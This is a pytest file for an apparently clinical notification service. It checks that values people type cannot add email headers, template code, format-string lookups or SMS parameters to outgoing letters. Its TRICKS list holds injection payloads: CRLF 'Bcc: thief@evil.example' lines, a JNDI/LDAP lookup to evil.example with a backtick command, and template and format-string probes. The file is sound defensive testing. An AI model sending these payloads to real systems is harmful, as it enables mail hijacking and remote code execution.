"""What somebody typed becomes no other line, header, field or command of a message (S40)."""

from email import message_from_bytes
from string import Formatter
from uuid import uuid4

import pytest
from django.conf import settings
from django.template.loader import render_to_string

from recovery.clinical.tiers import Tier
from recovery.models import CareTeam, Clinic, Patient, User
from recovery.notifications import claims, letters
from recovery.notifications.channels import Message, Permanent, mail, numbers
from recovery.notifications.message import compose
from recovery.notifications.wording import KINDS
from tests import factories
from tests.notifications import scenes

TRICKS = (
    "Ana\r\nBcc: thief@evil.example",
    "Ana\nSubject: another",
    "Ana\r\n\r\nanother body",
    "{{ 7|add:7 }}{% debug %}",
    "{link}{code}{link.__class__.__mro__}{0}",
    "%s%(name)s%n",
    "${jndi:ldap://evil.example}`id`",
    "=?utf-8?q?Bcc:_thief?=",
    "\u2028Bcc: thief@evil.example",
    "&To=+447700900999&Body=x",
)
BREAKING = [trick for trick in TRICKS if not trick.isprintable()]
STAYING = [trick for trick in TRICKS if trick.isprintable()]


def names_in(kind: str) -> set[str]:
    """What the words of a letter leave open."""
    wording = KINDS[kind]
    named = {
        name for text in (wording.text, wording.short) for _, name, _, _ in Formatter().parse(text) if name
    }
    return named - {"link", "code"}


def message(**changes: str) -> Message:
    fields = {
        "to": "ben@clinic.example",
        "subject": "Urgent item",
        "text": "Please sign in.\n",
        "short": "Sign in",
    }
    return Message(key=uuid4(), tier=Tier.EMERGENCY, **(fields | changes))


@pytest.mark.parametrize("trick", STAYING)
@pytest.mark.parametrize("kind", KINDS)
def test_s40_a_value_of_a_letter_is_filled_in_once_and_stands_as_it_was_typed(kind: str, trick: str) -> None:
    text, short, link = KINDS[kind].fill(
        letter=uuid4(), code="secret-code", detail=dict.fromkeys(names_in(kind), trick)
    )

    for filled, wording in ((text, KINDS[kind].text), (short, KINDS[kind].short)):
        slots = [name for _, name, _, _ in Formatter().parse(wording) if name]
        assert filled.count(trick) == sum(name in names_in(kind) for name in slots)
        assert filled.count("secret-code") == slots.count("code")
    assert link.startswith(settings.BASE_URL)


@pytest.mark.django_db
@pytest.mark.parametrize("trick", BREAKING)
def test_s40_a_value_that_would_begin_another_line_is_refused(trick: str) -> None:
    episode = factories.episode()

    with pytest.raises(ValueError, match="one short line"):
        letters.plan(
            "reminder", key="x", clinic=episode.clinic, detail={"what": trick}, due_at=factories.at(1),
            to=letters.To.patient(episode, channel="email", address="ana@home.example"),
        )  # fmt: skip


@pytest.mark.parametrize("trick", TRICKS)
def test_s40_an_address_is_one_address_or_nothing_is_sent(trick: str) -> None:
    try:
        to = mail.checked(f"{trick}@clinic.example")
    except Permanent:
        to = ""
    assert set(to).isdisjoint("\r\n\u2028 ,;<>")
    with pytest.raises((Permanent, ValueError)):
        numbers.checked(f"+447700900123{trick}")


@pytest.mark.parametrize("trick", TRICKS)
def test_s40_the_text_of_a_mail_stays_below_its_head(trick: str) -> None:
    usual = message_from_bytes(mail.compose(message()))

    sent = message_from_bytes(mail.compose(message(text=f"{trick}\n.\nQUIT\n")))

    assert sent.keys() == usual.keys()
    assert {name: sent[name] for name in ("To", "Subject", "From")} == {
        name: usual[name] for name in ("To", "Subject", "From")
    }
    assert sent["Bcc"] is None


@pytest.mark.django_db
@pytest.mark.parametrize("trick", TRICKS)
def test_s40_no_name_reaches_what_the_team_is_told(trick: str) -> None:
    """However somebody managed to store it: written past every form."""
    alert = scenes.red_flag(tier=Tier.EMERGENCY)
    for model in (Clinic, CareTeam, User, Patient):
        model._default_manager.update(name=trick)
    Patient.objects.update(call_notes=trick, caregiver_name=trick)

    (lead,) = scenes.planned(alert)
    held = claims.claim(lead)
    assert held is not None
    told = compose(held.intents[::-1])

    said = f"{told.subject}\n{told.text}\n{told.short}"
    assert "please sign in" in said
    assert [line for line in trick.splitlines() if line and line in said] == []
    assert message_from_bytes(mail.compose(told))["Bcc"] is None


@pytest.mark.parametrize("trick", TRICKS)
def test_s40_mails_of_accounts_have_no_place_for_a_name(trick: str) -> None:
    known = {"link": "https://app.example.org/x", "renews": None, "what": "Your password was changed."}
    for name in ("invitation", "account_changed"):
        for part in ("subject", "message"):
            template = f"account/email/{name}_{part}.txt"
            tricked = known | dict.fromkeys(("name", "user", "team", "clinic", "inviter", "role"), trick)
            assert render_to_string(template, tricked) == render_to_string(template, known)
